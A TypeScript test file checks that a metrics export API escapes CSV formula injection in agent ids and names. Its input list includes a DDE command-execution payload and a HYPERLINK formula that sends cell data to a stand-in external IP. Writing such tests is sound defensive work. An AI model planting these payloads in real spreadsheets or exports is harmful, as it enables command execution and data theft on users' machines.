import { afterAll, beforeAll, expect, test } from 'vitest';
import { dailyExportColumns, dailyTextColumns } from '../../../src/clickhouse/queries/agents/daily-export.js';
import { csvText } from '../../../src/clickhouse/queries/sql/csv-text.js';
import { FakeClock } from '../../support/fake-clock.js';
import { createQueryApi, type QueryApi } from '../api-client.js';
import { openQueryStore, type QueryStore } from '../api-store.js';

const nowMs = Math.floor(Date.now() / 60_000) * 60_000;

/** Ids that a spreadsheet would run, each by another beginning. */
const formulas = [
  '=1+1',
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("http://198.51.100.1?"&A1,"click")',
  '+1',
  '-1',
  '-1+1|cmd',
  '-',
  '@SUM(A1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '﹦1',
  '﹢1',
  '﹣1',
  '﹫1',
  '\t=1',
  '\r=1',
  '\n=1',
  '\r\n=1',
  '\tx',
  '\rx',
  '\nx',
  ' =1',
  '   -1',
  '\u00a0=1',
  '\u3000＝1',
  '\ufeff=1',
  '\u200b+1',
  '\u2028@x',
  '\u0000=1',
  '\u001f-1',
];

/** Ids that no spreadsheet runs, some of which look like it. */
const plain = [
  'plain',
  "'=1",
  "'-1",
  'a=1',
  '1-2',
  '1',
  '"=1"',
  ',=1',
  ';=1',
  'a\n=1',
  'ünïcödé-日本語-🌊',
  "''",
  '|cmd',
  '%1',
  '−1',
];

const ids = [...formulas, ...plain];
let store: QueryStore;
let api: QueryApi;

beforeAll(async () => {
  store = await openQueryStore();
  const event = { tenant: 'acme', type: 'task.completed', ts: nowMs - 1, received: nowMs, cost_micros: 7 };
  await store.insert(ids.map((id) => ({ ...event, agent_id: id, agent_name: `${id}~` })));
  api = createQueryApi({
    store: store.reader,
    memory: store.memory,
    exporter: store.exporter,
    clock: new FakeClock(nowMs),
  });
});

afterAll(async () => {
  await store.close();
});

/** The records of a CSV file (RFC 4180), by the names of its first line. */
function recordsOf(csv: string): Record<string, string>[] {
  const lines: string[][] = [[]];
  for (const [, quoted, bare, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\n]*))(,|\n)/g)) {
    lines.at(-1)!.push(quoted === undefined ? (bare ?? '') : quoted.replaceAll('""', '"'));
    if (end === '\n') lines.push([]);
  }
  const [names = [], ...rows] = lines.slice(0, -1);
  return rows.map((row) => Object.fromEntries(names.map((name, index) => [name, row[index] ?? ''])));
}

async function exported(query: string): Promise<Record<string, string>[]> {
  const { status, text } = await api.get('acme', `/api/v1/metrics/export?${query}`);
  expect(status).toBe(200);
  return recordsOf(text);
}

const byId = (a: Record<string, string>, b: Record<string, string>) => (a.agent_id! < b.agent_id! ? -1 : 1);

test('a text that a spreadsheet would run has a quote in front, any other is as it was', async () => {
  const records = await exported('');
  const expected = [...formulas.map((id) => [`'${id}`, `'${id}~`]), ...plain.map((id) => [id, `${id}~`])];
  const told = records.map(({ agent_id: id, agent_name: name }) => [id, name]);
  expect(told.toSorted()).toEqual(expected.toSorted());
});

test.each(ids)('the rows of the agent %j alone are found and told the same way', async (id) => {
  const [record, ...more] = await exported(`agent_id=${encodeURIComponent(id)}`);
  expect([record?.agent_id, record?.agent_name]).toEqual(
    formulas.includes(id) ? [`'${id}`, `'${id}~`] : [id, `${id}~`],
  );
  expect(more).toEqual([]);
});

test('raw gives back exactly what was sent', async () => {
  const records = await exported('csv_formulas=raw');
  expect(records.map(({ agent_id: id, agent_name: name }) => [id, name]).toSorted()).toEqual(
    ids.map((id) => [id, `${id}~`]).toSorted(),
  );
});

test('nothing but the two texts differs between the ways, and JSON knows neither', async () => {
  const [escaped, raw] = await Promise.all([exported(''), exported('csv_formulas=raw')]);
  const numbers = ({ agent_id: _, agent_name: __, ...rest }: Record<string, string>) => rest;
  expect(escaped.length).toBe(ids.length);
  expect(escaped.toSorted(byId).map(numbers)).toEqual(raw.toSorted(byId).map(numbers));
  expect(Object.keys(escaped[0]!)).toEqual([...dailyExportColumns]);
  const [json, asked] = await Promise.all(
    ['escaped', 'raw'].map((way) => api.get('acme', `/api/v1/metrics/export?format=json&csv_formulas=${way}`)),
  );
  expect(json?.text).toBe(asked?.text);
  expect(json?.text).toContain('"agent_id":"=1+1"');
});

test('every column of text is looked at, and no column of numbers, days or times is', async () => {
  const columns = await store.metadata.rows<{ readonly name: string; readonly type: string }>({
    name: 'columns',
    sql: "SELECT name, type FROM system.columns WHERE database = 'tidemark' AND table = 'agent_performance_daily'",
    params: {},
  });
  const texts = columns.filter(({ type }) => /String|Enum|Map|Array|Tuple|JSON/.test(type)).map(({ name }) => name);
  expect(texts.filter((name) => dailyExportColumns.includes(name as 'day'))).toEqual(dailyTextColumns);
});

test('a negative number is a number', async () => {
  const chunks: Uint8Array[] = [];
  const sql = `SELECT -1 AS n, -0.5 AS f, toDate('1970-01-01') AS d, ${csvText('t')} AS text FROM (SELECT '-1' AS t)`;
  const body = await store.exporter.export({ name: 'numbers', sql, params: { tenant: 'acme' }, format: 'csv' });
  for await (const chunk of body) chunks.push(chunk);
  expect(Buffer.concat(chunks).toString()).toBe(`"n","f","d","text"\n-1,-0.5,"1970-01-01","'-1"\n`);
});

test('another word than escaped and raw is refused', async () => {
  const { status, body } = await api.get('acme', '/api/v1/metrics/export?csv_formulas=off');
  expect([status, body.errors]).toMatchObject([
    400,
    [{ path: 'csv_formulas', message: 'expected one of escaped, raw' }],
  ]);
});
